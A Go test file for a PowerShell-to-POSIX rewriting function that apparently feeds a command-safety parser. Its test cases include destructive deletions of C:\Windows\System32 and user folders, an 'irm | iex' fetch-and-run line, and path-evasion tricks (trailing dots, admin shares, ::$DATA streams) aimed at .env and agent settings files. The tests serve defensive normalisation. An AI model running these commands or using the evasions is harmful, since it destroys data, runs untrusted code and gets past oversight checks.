package shell

import (
	"context"
	"slices"
	"strings"
	"testing"
)

func TestPowerShell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`Remove-Item -Recurse -Force C:\Windows\System32`, `Remove-Item -Recurse -Force C:/Windows/System32`},
		{`ri -r 'C:\Program Files\x'`, `ri -r 'C:/Program Files/x'`},
		{`Remove-Item "$env:USERPROFILE\Documents" -Recurse`, `Remove-Item "~/Documents" -Recurse`},
		{`Remove-Item $env:USERPROFILE -Recurse`, `Remove-Item ~ -Recurse`},
		{`Remove-Item ${env:SystemRoot}`, `Remove-Item C:/Windows`},
		{`Remove-Item $env:ProgramFiles(x86)\x`, `Remove-Item 'C:/Program Files (x86)'/x`},
		{`Remove-Item "$env:ProgramFiles\x"`, `Remove-Item "C:/Program Files/x"`},
		{`Remove-Item $env:MY_DIR -Recurse`, `Remove-Item ${MY_DIR} -Recurse`},
		{`$r = irm https://x.example/a | iex`, `irm https://x.example/a | iex`},
		{`$null = Remove-Item x; $r.count`, `Remove-Item x; : $r.count`},
		{`$x += Get-Item a`, `Get-Item a`},
		{`$a[0] = 1`, `: 1`},
		{`$x == 1`, `: $x == 1`},
		{`& $tool -x`, `$tool -x`},
		{`& "C:\tools\x.exe" a`, `"C:/tools/x.exe" a`},
		{`Get-ChildItem | ForEach-Object { Remove-Item $_ -Recurse }`, "Get-ChildItem | ForEach-Object $( Remove-Item $_ -Recurse )"},
		{`if (Test-Path x) { Remove-Item x }`, ":  $(Test-Path x) $( Remove-Item x )"},
		{`foreach ($f in $files) { del $f }`, ":  $(: $f in $files) $( del $f )"},
		{`Remove-Item (Join-Path $HOME x) -Recurse`, `Remove-Item $(Join-Path $HOME x) -Recurse`},
		{`$h = @{ a = 1; b = 2 }`, `: @{ a = 1; b = 2 }`},
		{`$l = @('a', 'b')`, `: $(: 'a', 'b')`},
		{"Write-Host \"a`nb `\"q`\" `$x\"", `Write-Host "anb \"q\" \$x"`},
		{"Remove-Item a `\n  -Recurse", `Remove-Item a    -Recurse`},
		{"echo `$HOME", `echo \$HOME`},
		{"Remove-Item \u2013Recurse \u2018C:\\Users\u2019", `Remove-Item -Recurse 'C:/Users'`},
		{`(Get-Item .\package.json).LastWriteTime`, `: $(Get-Item ./package.json).LastWriteTime`},
		{`npm ls > $null; git x 2>$NULL; $nullable`, `npm ls > /dev/null; git x 2>/dev/null; : $nullable`},
		{`gci | ? { $_.Length -gt 1 } | % { ri $_ }`, `gci | Where-Object $( : $_.Length -gt 1 ) | ForEach-Object $( ri $_ )`},
		{`ri FileSystem::C:\Users; ri Microsoft.PowerShell.Core\FileSystem::C:\x`, `ri C:/Users; ri C:/x`},
		// Windows drops the dots and spaces that end a name
		{`Get-Content .env.`, `Get-Content .env`},
		{`Set-Content -Path ".claude\settings.json." -Value "{}"`, `Set-Content -Path ".claude/settings.json" -Value "{}"`},
		{`Remove-Item -Recurse "C:\Windows\System32. "`, `Remove-Item -Recurse "C:/Windows/System32"`},
		{`cmd /c "del /f /s /q %SystemRoot%\x. " "a. /b"`, `cmd /c "del /f /s /q %SystemRoot%/x" "a. /b"`},
		{`ri a.\b..\c. ; gc -Path:.env.`, `ri a/b/c ; gc -Path:.env`},
		{`ri C:..\..\Windows`, `ri C:../../Windows`},
		{`cd ..; ls .\...; ri ..\x; gci -Filter *.; echo 1.5 $x.`, `cd ..; ls ./...; ri ../x; gci -Filter *.; echo 1.5 $x.`},
		{"Write-Host \"a `\"b.`\" c\"", `Write-Host "a \"b.\" c"`},
		// a device prefix, the machine's administrative share, a default data stream
		{`ri -r \\?\C:\Windows; ri \\.\C:\x; ri \??\C:\y`, `ri -r C:/Windows; ri C:/x; ri C:/y`},
		{`ri -r \\localhost\C$\Windows; ri \\127.0.0.1\ADMIN$`, `ri -r C:/Windows; ri C:/Windows`},
		{`gc '.env::$DATA'; Set-Content 'src\main.go::$DATA' x`, `gc '.env'; Set-Content 'src/main.go' x`},
		{`ri '\\?\UNC\srv\share\x'; ri \\srv\share`, `ri '//srv/share/x'; ri //srv/share`},
		{`'{}' | Out-File x`, `: '{}' | Out-File x`},
		{`Set-Location .github; sl ..; Push-Location x; Pop-Location`, `cd .github; cd ..; pushd x; popd`},
		{`Get-ChildItem | Where-Object { $_.Length -gt 1MB } | Select-Object Name`, `Get-ChildItem | Where-Object $( : $_.Length -gt 1MB ) | Select-Object Name`},
		{`echo "a""b"`, `echo "a\"b"`},
		{`git status # C:\x`, `git status # C:\x`},
		{`Write-Output "${name}x"`, `Write-Output "${name}x"`},
		{`ls && rm -rf C:\x || echo no`, `ls && rm -rf C:/x || echo no`},
		{`try { Remove-Item x } catch { Write-Error $_ }`, ":  $( Remove-Item x ) catch $( Write-Error $_ )"},
		{`echo 'unclosed \x`, `echo 'unclosed /x`},
		{`function Clean { Remove-Item -Recurse build }; Clean`, ":  Clean $( Remove-Item -Recurse build ); Clean"},
		{`try {} catch {}; x`, ":  $() catch $(); x"},
	} {
		if got := PowerShell(tc.in); got != tc.want {
			t.Errorf("PowerShell(%q)\n got %q\nwant %q", tc.in, got, tc.want)
		}
	}
}

// TestPowerShellParses: what the rewritten lines run, as Parse reads
// them (command names and the paths of their operands).
func TestPowerShellParses(t *testing.T) {
	for _, tc := range []struct {
		in    string
		names []string
	}{
		{`$r = irm https://x.example/a | iex`, []string{"irm", "iex"}},
		{`Get-ChildItem C:\ -Recurse | ForEach-Object { Remove-Item $_.FullName -Recurse -Force }`, []string{"Get-ChildItem", "ForEach-Object", "Remove-Item"}},
		{`if (Test-Path C:\x) { Remove-Item C:\x -Recurse } else { Write-Host none }`, []string{":", "Test-Path", "Remove-Item", "Write-Host"}},
		{`$files = Get-ChildItem *.tmp; foreach ($f in $files) { Remove-Item $f }`, []string{"Get-ChildItem", ":", ":", "Remove-Item"}},
		{`function Clean { Remove-Item -Recurse build }; Clean`, []string{":", "Remove-Item", "Clean"}},
		{"Set-Content -Path C:\\x\\y.txt -Value \"a`tb\"", []string{"Set-Content"}},
	} {
		cmds, err := Parse(context.Background(), PowerShell(tc.in))
		if err != nil {
			t.Errorf("%q → %q: %v", tc.in, PowerShell(tc.in), err)
			continue
		}
		var names []string
		for _, c := range cmds {
			names = append(names, c.Name)
		}
		if !slices.Equal(names, tc.names) {
			t.Errorf("%q → %q: commands %v, want %v", tc.in, PowerShell(tc.in), names, tc.names)
		}
	}
}

func FuzzPowerShell(f *testing.F) {
	for _, s := range []string{`Remove-Item -Recurse C:\x`, "$x = irm a | iex", "if ($a) { b } else { c }", "echo \"`$x `\"\"", "${env:x}", "@{a=1}", "$env:ProgramFiles(x86)", "`", "\"", "'", "${", "$env:", "&&", "& $x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		out := PowerShell(line)
		// linear: each byte becomes at most a few (a brace is " ; ", a
		// variable a place's value)
		if len(out) > 4*len(line)+64 {
			t.Fatalf("%d bytes became %d", len(line), len(out))
		}
		if !strings.Contains(line, `\`) && !strings.Contains(line, "`") && strings.Contains(out, `\`) && !strings.Contains(line, `""`) {
			t.Fatalf("%q: a backslash from nowhere: %q", line, out)
		}
	})
}
